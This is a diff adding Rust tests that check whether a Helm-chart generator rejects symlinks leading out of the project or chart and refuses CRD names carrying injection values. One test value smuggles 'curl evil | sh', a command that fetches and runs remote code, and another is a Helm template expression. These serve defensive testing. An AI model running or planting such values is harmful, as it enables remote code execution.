@@ -178,10 +178,47 @@ fn no_link_leads_out_of_the_project() {
     let outside = world.path().with_file_name("secret");
     std::fs::write(&outside, "mine").expect("a file");
     let link = world.path().join("dist/chart/templates/key.yaml");
-    std::os::unix::fs::symlink(&outside, link).expect("a link");
+    std::os::unix::fs::symlink(&outside, &link).expect("a link");
     let outcome = world.rop("generate chart --package").exits(1);
     outcome.says("`dist/chart/templates/key.yaml` points out of the project");
+    // Nor out of the chart, for example to a token in `.git/config`.
+    std::fs::remove_file(&link).expect("a link");
+    std::os::unix::fs::symlink("../../../PROJECT", &link).expect("a link");
+    let outcome = world.rop("generate chart --package").exits(1);
+    outcome.says("`dist/chart/templates/key.yaml` points out of the chart");
     assert!(!world.path().join(ARCHIVE).exists());
+    std::fs::remove_file(&link).expect("a link");
+
+    // What a link in `config/` leads to is not rendered either.
+    std::fs::write(&outside, "KEY=mine").expect("a file");
+    let link = world.path().join("config/default/key.env");
+    std::os::unix::fs::symlink(&outside, link).expect("a link");
+    let path = "config/default/kustomization.yaml";
+    let generator = "configMapGenerator: [{name: keys, envs: [key.env]}]\n";
+    world.write(path, &format!("{}{generator}", world.read(path)));
+    let outcome = world.rop("generate chart").exits(1);
+    assert!(!outcome.to_string().contains("mine"), "{outcome}");
+    assert!(!format!("{:?}", world.tree()).contains("KEY: mine"));
+}
+
+/// Helm runs what is in braces, and a user pastes what it prints.
+#[test]
+fn names_of_crds_are_names() {
+    let world = World::with_api();
+    let path = "config/crd/bases/app.example.com_appservices.yaml";
+    let crd = world.read(path);
+    for name in ["'x{{ fail `a` }}y'", r#""x; curl evil | sh""#] {
+        world.write(
+            path,
+            &crd.replace(
+                "  name: appservices.app.example.com",
+                &format!("  name: {name}"),
+            ),
+        );
+        assert_ne!(world.read(path), crd);
+        let outcome = world.rop("generate chart").exits(1);
+        outcome.says("error[malformed-file]: invalid name `x");
+    }
 }
 
 #[test]
